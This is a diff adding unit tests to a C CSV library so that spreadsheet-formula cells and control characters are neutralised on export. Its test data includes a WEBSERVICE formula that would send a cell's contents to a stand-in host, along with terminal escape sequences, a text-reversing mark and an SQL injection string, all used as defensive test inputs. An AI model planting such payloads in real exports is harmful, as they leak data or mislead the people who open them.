@@ -293,7 +293,7 @@ static void writer_quotes_exactly_when_needed(void **state)
 		{"a,b", "\"a,b\""},
 		{"say \"hi\"", "\"say \"\"hi\"\"\""},
 		{"two\nlines", "\"two\nlines\""},
-		{"cr\ronly", "\"cr\ronly\""},
+		{"tab\there", "\"tab\there\""},
 		{" leading", "\" leading\""},
 		{"trailing ", "\"trailing \""},
 		{"in between", "in between"},
@@ -311,6 +311,138 @@ static void writer_quotes_exactly_when_needed(void **state)
 		char *got = written(NULL);
 
 		assert_string_equal(got, "");
+		free(got);
+	}
+}
+
+/* Issue 9: a cell a spreadsheet would run as a formula (here the one a
+ * member of staff filed as a contact's summary) is written with a ' in
+ * front; so is a value that is already ' and one of those, so that the
+ * reader can always take one ' off. */
+static void writer_marks_what_a_spreadsheet_would_run(void **state)
+{
+	static const struct {
+		const char *value;
+		const char *csv;
+	} cases[] = {
+		{"=WEBSERVICE(\"http://x.example/\"&J3)",
+		 "\"'=WEBSERVICE(\"\"http://x.example/\"\"&J3)\""},
+		{"=1+2", "'=1+2"},
+		{"+44 20 7946 0000", "'+44 20 7946 0000"},
+		{"-5", "'-5"},
+		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
+		{"\t=1+2", "\"'\t=1+2\""},
+		{"=", "'="},
+		{"'=x", "''=x"},
+		{"''-x", "'''-x"},
+		{"'\tx", "\"''\tx\""},
+		/* Not a formula: left alone. */
+		{"'plain", "'plain"},
+		{"'", "'"},
+		{"''", "''"},
+		{"a=b", "a=b"},
+		{"2-1", "2-1"},
+		{"jo@example.org", "jo@example.org"},
+		{"first\n=second", "\"first\n=second\""},
+	};
+
+	(void)state;
+	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+		char *got = written(cases[i].value);
+
+		assert_string_equal(got, cases[i].csv);
+		free(got);
+	}
+}
+
+/* The reader takes off one ' where a formula character follows it (after
+ * any more 's), and only there. */
+static void reader_takes_the_mark_off(void **state)
+{
+	static const char data[] =
+		"'=1+2,'-5,'+1,'@x,\"'\tx\",\"'\rx\"\n"
+		"''=x,'''@x,'plain,',''\n"
+		"'a=b,x'=y,=raw,\"'\"\n";
+	struct csv_reader *r = reader_of(data, sizeof data - 1);
+
+	(void)state;
+	expect_record(r, 1, "=1+2", "-5", "+1", "@x", "\tx", "\rx", NULL);
+	/* The CR inside the last field was a line of its own. */
+	expect_record(r, 3, "'=x", "''@x", "'plain", "'", "''", NULL);
+	expect_record(r, 4, "'a=b", "x'=y", "=raw", "'", NULL);
+	expect_end(r);
+	csv_reader_free(&r);
+}
+
+/* Written, then read: every value comes back exactly, marked or not. */
+static void marked_values_read_back_exactly(void **state)
+{
+	static const char *const values[] = {
+		"=1+2", "-5", "+5", "@x", "'=x", "'plain", "\tled by a tab", "'\t", "''=",
+		"'", "''", "=", "-", "@", "'-", "x'=y", "=WEBSERVICE(\"http://x.example/\"&J3)",
+	};
+	size_t n = sizeof values / sizeof values[0];
+	char *buf = NULL;
+	size_t len = 0;
+	FILE *out = open_memstream(&buf, &len);
+	struct csv_reader *r;
+	char **fields;
+	size_t count;
+	long line;
+	const char *why;
+
+	(void)state;
+	assert_non_null(out);
+	for (size_t i = 0; i < n; i++)
+		csv_write_field(out, values[i], i == 0);
+	csv_write_end(out);
+	fclose(out);
+	r = reader_of(buf, len);
+	assert_int_equal(csv_read(r, &fields, &count, &line, &why), 1);
+	assert_int_equal(count, n);
+	for (size_t i = 0; i < n; i++)
+		assert_string_equal(fields[i], values[i]);
+	expect_end(r);
+	csv_reader_free(&r);
+	free(buf);
+}
+
+/*
+ * Issue 9: no cell carries a control character but LF and tab, even when
+ * another program put one in the database.  A CR is a line break (and is
+ * still marked where it leads); the rest are shown as text_safe shows them.
+ */
+static void writer_carries_no_control_but_line_feed_and_tab(void **state)
+{
+	static const struct {
+		const char *value;
+		const char *csv;
+	} cases[] = {
+		{"cr\ronly", "\"cr\nonly\""},
+		{"windows\r\nline", "\"windows\nline\""},
+		{"\r=1+2", "\"'\n=1+2\""},
+		{"tab\tand\nlf", "\"tab\tand\nlf\""},
+		{"a\x1b[2Jb", "a^[[2Jb"},
+		{"\x1b]0;pwned\x07", "^[]0;pwned^G"},
+		{"\x01\x1f", "^A^_"},
+		{"del\x7f", "del^?"},
+		/* C1 controls, as UTF-8 and as bare bytes; a text-reversing mark. */
+		{"c1\xc2\x9b" "2J", "c1\xef\xbf\xbd" "2J"},
+		{"c1\xc2\x80\xc2\x9f", "c1\xef\xbf\xbd\xef\xbf\xbd"},
+		{"raw\x9b" "2J", "raw\xef\xbf\xbd" "2J"},
+		{"abc\xe2\x80\xae" "def", "abc\xef\xbf\xbd" "def"},
+		{"\xff" "A", "\xef\xbf\xbd" "A"},
+		{"caf\xc3", "caf\xef\xbf\xbd"},
+		/* A control that leads is no formula once shown: not marked. */
+		{"\x1b=1", "^[=1"},
+		{"Zo\xc3\xab \xe6\x9d\x8e \xc2\xa0nbsp", "Zo\xc3\xab \xe6\x9d\x8e \xc2\xa0nbsp"},
+	};
+
+	(void)state;
+	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+		char *got = written(cases[i].value);
+
+		assert_string_equal(got, cases[i].csv);
 		free(got);
 	}
 }
@@ -338,7 +470,7 @@ static void written_records_read_back_the_same(void **state)
 {
 	static const char *const values[] = {
 		"plain", "", "Smith, Jo", "said \"hi\"", "\"", "\"\"", "two\nlines",
-		"cr\ronly", " padded ", ",", "Zoë", "Siân", "Łukasz", "李雷",
+		"tab\tin", " padded ", ",", "Zoë", "Siân", "Łukasz", "李雷",
 		"Robert'); DROP TABLE pupil;--", "end\n",
 	};
 	size_t n = sizeof values / sizeof values[0];
@@ -441,6 +573,10 @@ int main(void)
 		cmocka_unit_test(bad_multi_line_record_keeps_later_line_numbers),
 		cmocka_unit_test(nul_byte_is_refused),
 		cmocka_unit_test(writer_quotes_exactly_when_needed),
+		cmocka_unit_test(writer_marks_what_a_spreadsheet_would_run),
+		cmocka_unit_test(reader_takes_the_mark_off),
+		cmocka_unit_test(marked_values_read_back_exactly),
+		cmocka_unit_test(writer_carries_no_control_but_line_feed_and_tab),
 		cmocka_unit_test(writer_separates_fields_and_ends_records),
 		cmocka_unit_test(written_records_read_back_the_same),
 		cmocka_unit_test(many_and_long_fields_grow_the_storage),
